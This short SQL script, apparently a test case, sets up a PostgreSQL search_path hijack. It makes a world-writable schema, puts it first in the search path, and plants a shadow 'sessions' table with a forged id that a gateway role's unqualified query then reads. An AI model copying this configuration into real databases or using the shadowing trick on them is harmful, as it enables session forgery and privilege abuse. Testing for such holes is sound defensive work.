-- Everybody looks into a schema first in which everybody may create.
--- finds setting on scratch
--- patch as superuser
CREATE SCHEMA scratch;
GRANT USAGE, CREATE ON SCHEMA scratch TO PUBLIC;
ALTER DATABASE ${database} SET search_path = scratch, public;
--- leaks as pawl_gateway
CREATE TABLE scratch.sessions AS SELECT 'forged'::text AS id;
SELECT FROM sessions WHERE id = 'forged';
